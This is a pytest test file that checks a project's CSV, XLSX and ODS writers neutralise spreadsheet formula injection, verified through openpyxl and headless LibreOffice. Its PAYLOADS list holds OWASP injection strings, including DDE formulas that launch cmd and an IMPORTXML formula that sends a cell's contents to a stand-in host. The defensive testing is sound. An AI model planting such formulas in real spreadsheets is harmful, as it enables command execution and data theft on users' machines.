"""Text from data never becomes a spreadsheet formula (CSV injection, OWASP): XLSX and ODS cells are
typed strings that show the text unchanged, CSV fields that could start a formula get OWASP's
apostrophe. Read back as people do: openpyxl, and LibreOffice headless (recalculating, CSV export)."""
from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from plcpub.forms.ods import write_budget_sheet
from plcpub.util.sheets import csv_field, write_csv, write_xlsx

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")

# OWASP's CSV-injection examples and their variants: every formula start, DDE, hyperlinks, and
# the leading tab / carriage return that some readers strip before evaluating.
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
    '=HYPERLINK("http://x","y")', "=cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "=10+20+cmd|' /C calc'!A0", "=2+5+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x/?v=", A1), "//a")', "=WEBSERVICE(\"http://x\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "'=1+1", '"=1+1"', "=1+1;=2+2", " =1+1", "＝1+1", "_x0041_ 字面", "名稱\t含 Tab", "海洋教育跨校社群",
]


def _owasp(value: str) -> str:
    return "'" + value if value.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝")) else value


def test_xlsx_cells_from_data_are_strings_never_formulas(tmp_path):
    path = write_xlsx(tmp_path / "t.xlsx", "t", [("審查時程", ["序號", "社群名稱"], [[str(i), p] for i, p in enumerate(PAYLOADS, 1)])],
                      frozenset({"序號"}))
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    rows = list(load_workbook(path).active.iter_rows(min_row=2))
    assert [r[0].value for r in rows] == list(range(1, len(PAYLOADS) + 1))  # numbers stay numbers
    for r, payload in zip(rows, PAYLOADS):
        assert r[1].data_type == "s", payload
        assert r[1].value == payload.replace("\r", "_x000D_").replace("_x0041_", "_x005F_x0041_"), payload  # OOXML escapes


def test_csv_fields_get_the_owasp_treatment(tmp_path):
    path = write_csv(tmp_path / "t.csv", ["社群名稱", "分數"], [[p, "-3"] for p in PAYLOADS])
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:]] == [_owasp(p) for p in PAYLOADS]
    assert all(r[1] == "-3" for r in rows[1:])  # a number is not a formula
    assert path.read_bytes().decode("utf-8-sig").split("\r\n")[1].startswith('"')  # every field quoted
    assert csv_field(None) == ""


@pytest.mark.slow
def test_libreoffice_shows_xlsx_and_ods_text_unchanged_and_evaluates_no_csv_field(tmp_path, project):
    if SOFFICE is None:
        pytest.fail("LibreOffice is not installed: run `bash dev.sh test`, which installs it")
    xlsx = write_xlsx(tmp_path / "timetable.xlsx", "t", [("s", ["社群名稱"], [[p] for p in PAYLOADS])])
    sb = next(sb for sb in project.submissions if sb.sub.budget)
    plan = project.plans[sb.sub.plan].plan
    ods_files = []
    for i, p in enumerate(PAYLOADS):
        ods_files.append(write_budget_sheet(plan, tmp_path / f"budget-{i}.ods", sb.sub.model_copy(update={"name": p})))
    data_csv = write_csv(tmp_path / "names.csv", ["社群名稱"], [[p] for p in PAYLOADS])
    profile = f"-env:UserInstallation=file://{tmp_path}/lo"
    out = tmp_path / "out"
    subprocess.run([SOFFICE, "--headless", profile, "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76",
                    "--outdir", str(out), str(xlsx), *map(str, ods_files)], check=True, capture_output=True, timeout=300)
    shown = [r[0] for r in csv.reader(open(out / "timetable.csv", encoding="utf-8", newline=""))][1:]
    assert shown == PAYLOADS  # LibreOffice shows each name exactly as written, none evaluated
    for i, p in enumerate(PAYLOADS):
        rows = list(csv.reader(open(out / f"budget-{i}.csv", encoding="utf-8", newline="")))
        assert rows[1][1] == p.replace("\r", "\n"), p  # the community-name cell (ODF keeps tabs; CR is XML's LF)
    # The CSV opened with formula evaluation switched on: every field still arrives as text.
    subprocess.run([SOFFICE, "--headless", profile, "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
                    "--convert-to", "xlsx", "--outdir", str(out / "fromcsv"), str(data_csv)], check=True,
                   capture_output=True, timeout=300)
    cells = list(load_workbook(out / "fromcsv" / "names.xlsx").active["A"])[1:]
    assert len(cells) == len(PAYLOADS)
    assert all(c.data_type == "s" for c in cells), [(c.value, c.data_type) for c in cells if c.data_type != "s"]


def test_the_review_spreadsheets_use_the_safe_writers():
    """Every CSV and XLSX the project writes comes from plcpub.util.sheets (a new writer elsewhere
    would bypass the treatment)."""
    root = Path(__file__).resolve().parent.parent / "plcpub"
    for f in root.rglob("*.py"):
        if f.name == "sheets.py":
            continue
        text = f.read_text("utf-8")
        assert "csv.writer" not in text and "Workbook(" not in text, f
